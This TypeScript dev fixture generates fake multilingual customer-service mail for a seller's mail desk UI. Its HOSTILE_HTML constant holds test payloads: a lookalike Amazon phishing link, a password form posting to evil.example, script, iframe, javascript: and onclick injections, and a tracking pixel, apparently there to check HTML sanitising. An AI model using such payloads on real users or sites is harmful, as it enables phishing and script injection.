import type { MessageMeta } from '../api/desk-types.js';

/**
 * Deterministic sample mail for looking at the UI without a core: message i is computed from i,
 * so 100,000 messages cost no memory until a page asks for them. Dev only, never bundled in production.
 */

interface Sample {
  language: MessageMeta['language'];
  name: string;
  subject: string;
  text: string;
}

const samples: Sample[] = [
  {
    language: 'ja',
    name: '山田 花子',
    subject: '商品が届いていません（注文番号 {order}）',
    text: 'お世話になっております。{date}に注文した商品がまだ届いていません。配送状況を教えていただけますでしょうか。よろしくお願いいたします。',
  },
  {
    language: 'ja',
    name: '佐藤 健',
    subject: '色違いの商品が届きました',
    text: '注文したのはネイビーですが、届いたのはブラックでした。交換をお願いできますか。写真を添付します。',
  },
  {
    language: 'ja',
    name: '鈴木 美咲',
    subject: '無事に届きました。ありがとうございます',
    text: '丁寧な梱包で無事に届きました。ありがとうございました。また利用させていただきます。',
  },
  {
    language: 'zh',
    name: '王伟',
    subject: '关于订单 {order} 的发货时间',
    text: '您好，请问这个订单什么时候发货？我需要在周末之前收到。谢谢！',
  },
  {
    language: 'zh',
    name: '李娜',
    subject: '收到的商品有破损',
    text: '包裹收到了，但是杯子有裂痕。请问可以退货或者换货吗？',
  },
  {
    language: 'ko',
    name: '김민준',
    subject: '주문 {order} 배송 문의',
    text: '안녕하세요. 주문한 상품이 언제 도착하는지 알 수 있을까요? 감사합니다.',
  },
  {
    language: 'ko',
    name: '이서연',
    subject: '사이즈 교환 가능한가요?',
    text: '신발 사이즈가 조금 작습니다. 한 사이즈 큰 것으로 교환할 수 있을까요?',
  },
  {
    language: 'en',
    name: 'John Miller',
    subject: 'Is this compatible with iPhone 15?',
    text: 'Hi, before I order: does this case fit the iPhone 15 Pro? The listing only mentions the 14. Thanks!',
  },
  {
    language: 'en',
    name: 'Emily Clark',
    subject: 'Refund request for order {order}',
    text: 'The item stopped working after two days. I would like a refund or a replacement, please.',
  },
  {
    language: 'en',
    name: 'SEO Growth Team',
    subject: 'Boost your sales 300% — guaranteed!!!',
    text: 'We can put your store on page one. Click here to claim your free audit: https://growth.example/offer',
  },
];

const notices = [
  {
    subject: '出荷通知: ご注文 {order} を発送しました',
    text: 'お客様のご注文は発送されました。お届け予定日をご確認ください。',
  },
  {
    subject: 'Sold, ship now: order {order}',
    text: 'Your item has sold. Please ship it within the handling time.',
  },
];

export const HOSTILE_HTML = `<p>Dear seller,</p><p>Please see <a href="https://amazon.co.jp.evil.example/login">your account</a> and <a href="javascript:alert(1)">this</a>.</p>
<img src="https://track.example/pixel.gif" width="1" height="1"><img src="https://images.example/product.jpg" alt="product photo">
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<script>alert('xss')</script><iframe src="https://evil.example/"></iframe>
<div style="background:url(https://css.example/bg.png);padding:8px;border:1px solid #ccc" onclick="alert(2)">Order <b>503-1234567-1234567</b></div>`;

const DAY = 86_400_000;
const BASE = Date.parse('2026-01-15T09:00:00Z');

function order(i: number): string {
  const n = (i * 7919 + 1234567) % 10_000_000;
  return `${250 + (i % 400)}-${String(n).padStart(7, '0')}-${String((n * 31) % 10_000_000).padStart(7, '0')}`;
}

function buyerAddress(b: number): string {
  return `${(b * 2654435761).toString(36).slice(-15).padStart(15, 'x')}@marketplace.amazon.co.jp`;
}

/** Every 10th message is our reply in Sent, every 9th a marketplace notice; the rest buyer mail. */
export function fakeMeta(i: number, now: number): MessageMeta {
  // Three consecutive messages form one conversation; a buyer comes back every 7,500 messages.
  const conv = Math.floor(i / 3);
  const buyerNo = conv % 2500;
  const sample = samples[buyerNo % samples.length] ?? samples[0]!;
  const o = order(conv);
  const sent = i % 3 === 0 && conv % 2 === 1;
  const notice = !sent && conv % 7 === 3;
  const date = new Date(now - i * 37 * 60_000 - (i % 7) * 1000).toISOString();
  const fill = (s: string) =>
    s.replace('{order}', o).replace('{date}', new Date(BASE - (i % 30) * DAY).toLocaleDateString('ja-JP'));
  const n = notices[i % notices.length] ?? notices[0]!;
  const subject = sent ? `Re: ${fill(sample.subject)}` : notice ? fill(n.subject) : fill(sample.subject);
  const text = sent
    ? 'ご連絡ありがとうございます。確認のうえ、本日中に発送いたします。'
    : notice
      ? fill(n.text)
      : fill(sample.text);
  const buyer = notice ? null : { address: buyerAddress(buyerNo), name: sample.name };
  const flags = i % 4 === 0 ? [] : ['\\Seen'];
  if (!sent && !notice && sample.subject.startsWith('Boost')) flags.push('$Junk');
  else if (!sent && !notice && sample.text.includes('ありがとうございました')) flags.push('$HD_NoReply');
  return {
    id: `${sent ? 'sent' : 'inbox'}:1:${i + 1}`,
    mailbox: sent ? 'sent' : 'inbox',
    mailboxPath: sent ? 'Sent' : 'INBOX',
    uid: i + 1,
    uidValidity: '1',
    messageId: `m${i}@example`,
    inReplyTo: null,
    references: [],
    date,
    internalDate: date,
    from: notice
      ? { name: 'Amazon マーケットプレイス', address: 'no-reply@amazon.co.jp' }
      : sent
        ? { name: 'Shop CS', address: 'cs@shop.example' }
        : { name: sample.name, address: buyerAddress(buyerNo) },
    to: sent
      ? [{ name: sample.name, address: buyerAddress(buyerNo) }]
      : [{ name: 'Shop CS', address: 'cs@shop.example' }],
    subject,
    snippet: text.slice(0, 120),
    language: notice ? 'ja' : sample.language,
    orderIds: subject.includes(o) || i % 2 === 0 ? [o] : [],
    buyer,
    automated: notice ? 'marketplace-notice' : 'none',
    attachments:
      i % 11 === 1 ? [{ filename: '写真_破損.jpg', contentType: 'image/jpeg', size: 2_345_678 }] : [],
    hasHtml: i % 13 === 0,
    flags,
    modseq: null,
    size: 4096,
    threadId: `t${conv}`,
    parseError: null,
    charset: i % 5 === 0 ? 'iso-2022-jp' : 'utf-8',
    sha256: '0'.repeat(64),
    expungedAt: null,
    triage: null,
    downloaded: 'whole',
  };
}

export function fakeBody(meta: MessageMeta): { text: string; html: string | null } {
  if (!meta.hasHtml) return { text: `${meta.snippet}\n\n${meta.buyer?.name ?? ''}`, html: null };
  return { text: meta.snippet, html: HOSTILE_HTML };
}
